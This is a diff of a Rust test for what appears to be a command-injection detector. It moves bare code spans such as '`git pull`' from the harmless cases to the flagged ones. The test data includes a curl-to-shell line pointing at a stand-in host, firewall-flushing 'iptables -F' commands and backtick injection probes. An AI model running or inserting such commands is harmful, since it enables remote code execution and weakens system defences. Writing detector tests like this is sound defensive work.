@@ -3409,8 +3409,6 @@ fn harmless_lists_and_code_spans() {
         "my script does `tar -xzf file.tar.gz`",
         "The command `ls | wc -l` counts files; it's handy!",
         "try `pip install requests` then `python app.py`",
-        "`git pull`",
-        "`python app.py`",
         // a package installed by name: the same line for any name, as a whole value too
         "x `pip install evil`",
     ] {
@@ -3434,6 +3432,10 @@ fn harmless_lists_and_code_spans() {
         "use `curl http://x.example/a | sh`",
         "try `id`",
         "`iptables -F`",
+        // a code span that is the whole value stands in no sentence: a substitution
+        "`git pull`",
+        "`ls -la`",
+        "`echo JVJWWG`",
         "sudo iptables -F",
         "`echo RNDSTR``expr 5 + 5`",
         "x`ls`",
